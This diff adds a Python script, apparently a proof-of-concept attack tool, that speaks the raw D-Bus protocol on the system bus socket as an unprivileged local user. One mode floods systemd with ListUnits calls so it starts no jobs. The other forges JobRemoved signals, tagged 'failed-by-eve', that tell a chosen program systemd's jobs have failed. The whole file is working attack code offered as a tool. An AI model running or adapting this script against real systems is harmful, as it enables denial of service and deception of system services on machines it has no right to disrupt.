@@ -1,0 +1,80 @@
+"""Runs in the machine as any local user: floods systemd or another program on the system bus, which lets everybody send signals.
+
+Speaks just enough of the bus's protocol (D-Bus Specification, "Message Protocol") to send; what comes back is read and dropped.
+"""
+
+import os
+import socket
+import struct
+import sys
+import threading
+import time
+
+CALL, SIGNAL, NO_REPLY = 1, 4, 1
+MANAGER = "org.freedesktop.systemd1.Manager"
+
+
+def padded(data, size):
+    return data + bytes(-len(data) % size)
+
+
+def text(value):
+    return struct.pack("<I", len(value)) + value + b"\0"
+
+
+def field(code, kind, value):
+    signature = bytes([len(value)]) + value + b"\0" if kind == b"g" else text(value)
+    return padded(bytes([code, 1]) + kind + b"\0" + signature, 8)
+
+
+def message(kind, member, destination, path="/org/freedesktop/systemd1", interface=MANAGER, signature=b"", body=b"", flags=NO_REPLY):
+    fields = field(1, b"o", path.encode()) + field(2, b"s", interface.encode()) + field(3, b"s", member.encode())
+    fields += field(6, b"s", destination.encode()) + (field(8, b"g", signature) if signature else b"")
+    # The last one is not padded in its own length, only before the body.
+    unpadded = len(fields.rstrip(b"\0")) + 1
+    return padded(b"l" + bytes([kind, flags, 1]) + struct.pack("<III", len(body), 1, unpadded) + fields[:unpadded], 8) + body
+
+
+class Bus:
+    def __init__(self):
+        self.socket = socket.socket(socket.AF_UNIX)
+        self.socket.connect("/run/dbus/system_bus_socket")
+        self.socket.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
+        self.socket.recv(1000)
+        self.socket.sendall(b"BEGIN\r\n")
+        name = "org.freedesktop.DBus"
+        self.socket.sendall(message(CALL, "Hello", name, "/org/freedesktop/DBus", name, flags=0))
+        threading.Thread(target=self.drop_answers, daemon=True).start()
+
+    def drop_answers(self):
+        while self.socket.recv(1 << 16):
+            pass
+
+
+def keep_systemd_busy(seconds):
+    """While it has messages to answer, systemd starts no job."""
+    bus, until = Bus(), time.monotonic() + seconds
+    while time.monotonic() < until:
+        bus.socket.sendall(message(CALL, "ListUnits", "org.freedesktop.systemd1") * 20)
+        time.sleep(0.01)
+
+
+def job_removed(destination, number, size):
+    job = text(f"/org/freedesktop/systemd1/job/{number}".encode())
+    body = padded(padded(struct.pack("<I", number) + job, 4) + text(b"x" * size), 4) + text(b"failed-by-eve")
+    return message(SIGNAL, "JobRemoved", destination, signature=b"uoss", body=body)
+
+
+def forge(destination, count, size):
+    """Tells somebody that jobs of systemd's have failed."""
+    bus = Bus()
+    for number in range(count):
+        bus.socket.sendall(job_removed(destination, number, size))
+    time.sleep(1)  # a connection that ends takes along what was not delivered yet
+
+
+if __name__ == "__main__":
+    if sys.argv[1] == "busy":
+        keep_systemd_busy(float(sys.argv[2]))
+    else:
+        forge(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]))
